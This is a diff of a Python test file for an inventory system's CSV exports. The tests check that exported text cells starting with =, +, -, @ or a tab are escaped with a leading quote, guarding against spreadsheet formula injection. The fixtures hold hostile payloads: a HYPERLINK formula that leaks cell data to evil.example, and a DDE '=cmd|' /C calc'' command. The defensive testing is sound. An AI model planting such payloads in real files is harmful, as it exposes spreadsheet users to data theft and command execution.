@@ -21,33 +21,112 @@ TS = "2026-11-20T10:00:00.000Z"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 HOSTILE = {HYPERLINK, "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "=loc", "=A-1"}
 # every export, with the filters that make each one list the hostile rows
-EXPORTS = ["/?format=csv", "/stock?format=csv", "/stock?format=csv&q=HYPER",
-           "/movements?format=csv&start=2020-01-01", "/low-stock?format=csv", "/low-stock?format=csv&table=transfers",
-           "/counts?format=csv&start=2020-01-01", "/orders?format=csv&start=2020-01-01"]
+EXPORTS = [
+    "/?format=csv",
+    "/stock?format=csv",
+    "/stock?format=csv&q=HYPER",
+    "/movements?format=csv&start=2020-01-01",
+    "/low-stock?format=csv",
+    "/low-stock?format=csv&table=transfers",
+    "/counts?format=csv&start=2020-01-01",
+    "/orders?format=csv&start=2020-01-01",
+]
 
 
 def _events(store: str) -> list[dict]:
-    item = {"id": "i1", "sku": HYPERLINK, "name_en": "+1+1", "name_zh": "-2+3", "category": "@SUM(1+1)",
-            "brand": "\t=1", "unit": "each", "price_minor": 100, "cost_minor": 50, "reorder_point": 50,
-            "safety_stock": 0, "active": True}
+    item = {
+        "id": "i1",
+        "sku": HYPERLINK,
+        "name_en": "+1+1",
+        "name_zh": "-2+3",
+        "category": "@SUM(1+1)",
+        "brand": "\t=1",
+        "unit": "each",
+        "price_minor": 100,
+        "cost_minor": 50,
+        "reorder_point": 50,
+        "safety_stock": 0,
+        "active": True,
+    }
     return [
         {"kind": "item.upsert", "payload": item},
         {"kind": "location.upsert", "payload": {"id": "l1", "code": "=loc", "name": "=loc", "kind": "bin"}},
-        {"kind": "movement", "payload": {"kind": "receive", "item_id": "i1", "location_id": "l1",
-                                         "qty_delta": 300 if store == "s2" else 5, "reserved_delta": 0, "ts": TS}},
-        {"kind": "movement", "payload": {"kind": "sale", "item_id": "i1", "location_id": "l1", "qty_delta": -3,
-                                         "reserved_delta": 0, "ts": TS}},
-        {"kind": "order.created", "payload": {
-            "id": "o1", "ref": "=A-1", "channel": "web", "external_id": "=W-1", "status": "new", "fulfilment": "pickup",
-            "currency": "CNY", "total_minor": 2500, "paid_minor": 2500, "parent_order_id": None, "split_kind": None,
-            "created_at": TS, "lines": [{"id": "ol1", "line_no": 1, "item_id": "i1", "qty": 2, "unit_price_minor": 1250}]}},
-        {"kind": "order.status", "payload": {"order_id": "o1", "ref": "=A-1", "from": "ready", "to": "collected",
-                                             "actor": "u", "ts": "2026-11-20T11:00:00.000Z"}},
-        {"kind": "count.approved", "payload": {"session_id": "=cs1", "approved_by": "=u", "ts": TS, "totals": {
-            "lines": 4, "lines_exact": 3, "lines_with_variance": 1, "expected_units": 40, "counted_units": 39,
-            "net_variance_units": -1, "abs_variance_units": 1, "shrink_cost_minor": -50, "gain_cost_minor": 0,
-            "net_variance_cost_minor": -50, "expected_cost_minor": 2000, "line_accuracy_pct": 75.0,
-            "unit_accuracy_pct": 97.5, "value_accuracy_pct": 97.5, "movements": 1}}},
+        {
+            "kind": "movement",
+            "payload": {
+                "kind": "receive",
+                "item_id": "i1",
+                "location_id": "l1",
+                "qty_delta": 300 if store == "s2" else 5,
+                "reserved_delta": 0,
+                "ts": TS,
+            },
+        },
+        {
+            "kind": "movement",
+            "payload": {
+                "kind": "sale",
+                "item_id": "i1",
+                "location_id": "l1",
+                "qty_delta": -3,
+                "reserved_delta": 0,
+                "ts": TS,
+            },
+        },
+        {
+            "kind": "order.created",
+            "payload": {
+                "id": "o1",
+                "ref": "=A-1",
+                "channel": "web",
+                "external_id": "=W-1",
+                "status": "new",
+                "fulfilment": "pickup",
+                "currency": "CNY",
+                "total_minor": 2500,
+                "paid_minor": 2500,
+                "parent_order_id": None,
+                "split_kind": None,
+                "created_at": TS,
+                "lines": [{"id": "ol1", "line_no": 1, "item_id": "i1", "qty": 2, "unit_price_minor": 1250}],
+            },
+        },
+        {
+            "kind": "order.status",
+            "payload": {
+                "order_id": "o1",
+                "ref": "=A-1",
+                "from": "ready",
+                "to": "collected",
+                "actor": "u",
+                "ts": "2026-11-20T11:00:00.000Z",
+            },
+        },
+        {
+            "kind": "count.approved",
+            "payload": {
+                "session_id": "=cs1",
+                "approved_by": "=u",
+                "ts": TS,
+                "totals": {
+                    "lines": 4,
+                    "lines_exact": 3,
+                    "lines_with_variance": 1,
+                    "expected_units": 40,
+                    "counted_units": 39,
+                    "net_variance_units": -1,
+                    "abs_variance_units": 1,
+                    "shrink_cost_minor": -50,
+                    "gain_cost_minor": 0,
+                    "net_variance_cost_minor": -50,
+                    "expected_cost_minor": 2000,
+                    "line_accuracy_pct": 75.0,
+                    "unit_accuracy_pct": 97.5,
+                    "value_accuracy_pct": 97.5,
+                    "movements": 1,
+                },
+            },
+        },
     ]
 
 
@@ -59,8 +138,9 @@ def central(tmp_path):
     for sid in ("s1", "s2"):
         stores.add_store(engine, sid, "=cmd|' /C calc'!A0")
         evs = [{"seq": n, "id": f"{sid}-{n}", "ts": TS, **e} for n, e in enumerate(_events(sid), start=1)]
-        ingest.apply_batch(engine, sid, validate_batch({"store_id": sid, "after": 0, "through": len(evs),
-                                                        "events": evs}, sid))
+        ingest.apply_batch(
+            engine, sid, validate_batch({"store_id": sid, "after": 0, "through": len(evs), "events": evs}, sid)
+        )
     yield app.test_client()
     engine.dispose()
 
@@ -90,7 +170,7 @@ def test_every_export_guards_every_text_cell(central):
     stock = list(csv.DictReader(io.StringIO(central.get("/stock?format=csv").get_data(as_text=True).lstrip("\ufeff"))))
     assert {r["sku"] for r in stock} == {"'" + HYPERLINK}
     moves = central.get("/movements?format=csv&start=2020-01-01").get_data(as_text=True)
-    assert ",-3" in moves and ",'-3" not in moves          # numbers are not text: no guard
+    assert ",-3" in moves and ",'-3" not in moves  # numbers are not text: no guard
 
 
 def test_stock_search_takes_percent_and_underscore_literally(central):
@@ -101,5 +181,5 @@ def test_stock_search_takes_percent_and_underscore_literally(central):
         text = central.get("/stock", query_string={"format": "csv", "q": q}).get_data(as_text=True).lstrip("\ufeff")
         return [r["sku"] for r in csv.DictReader(io.StringIO(text))]
 
-    assert skus("HYPER") == ["'" + HYPERLINK] * 2           # one row per store
+    assert skus("HYPER") == ["'" + HYPERLINK] * 2  # one row per store
     assert skus("%") == [] and skus("_") == [] and skus("H_PER") == []
